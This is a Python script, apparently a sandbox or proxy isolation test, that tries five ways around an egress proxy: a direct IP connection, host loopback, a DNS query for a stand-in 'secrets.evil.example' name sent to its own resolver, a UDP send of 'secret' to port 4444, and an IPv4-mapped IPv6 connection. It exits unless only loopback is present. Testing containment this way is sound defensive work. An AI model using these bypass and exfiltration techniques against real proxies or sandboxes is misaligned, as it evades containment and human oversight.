#!/usr/bin/env python3
"""Five attempts to bypass a proxy.

It tries them only where they can reach nothing: in a network of its own that
holds a loopback and nothing else. The addresses are set aside for examples.
"""
import socket
import struct
import sys

loopback_port = int(sys.argv[1])

with open("/proc/net/dev") as interfaces:
    names = [line.split(":")[0].strip() for line in interfaces if ":" in line]
if names != ["lo"]:
    sys.exit("escape.py: this is not a network of its own: " + ", ".join(names))


def get(family, host, port):
    """Asks host:port for / and returns the first line of the answer."""
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode())
        return s.makefile("rb").readline().decode().strip() or "closed without an answer"


def direct_ip():
    return get(socket.AF_INET, "192.0.2.10", 80)


def host_loopback():
    return get(socket.AF_INET, "127.0.0.1", loopback_port)


def own_dns_server():
    question = b"".join(bytes([len(l)]) + l for l in b"secrets.evil.example".split(b".")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(struct.pack(">6H", 4711, 0x0100, 1, 0, 0, 0) + question, ("192.0.2.53", 53))
        answer = s.recv(512)
    code = answer[3] & 15
    return "NXDOMAIN" if code == 3 else "answer code %d" % code


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        sent = s.sendto(b"secret", ("192.0.2.10", 4444))
        return "sent %d bytes" % sent


def mapped_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(("::ffff:192.0.2.10", 80))
        s.sendall(b"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\nConnection: close\r\n\r\n")
        return s.makefile("rb").readline().decode().strip() or "closed without an answer"


for attempt in (direct_ip, host_loopback, own_dns_server, udp, mapped_ipv6):
    try:
        outcome = attempt()
    except OSError as e:
        outcome = type(e).__name__ + ": " + str(e)
    print(attempt.__name__, "->", outcome, flush=True)
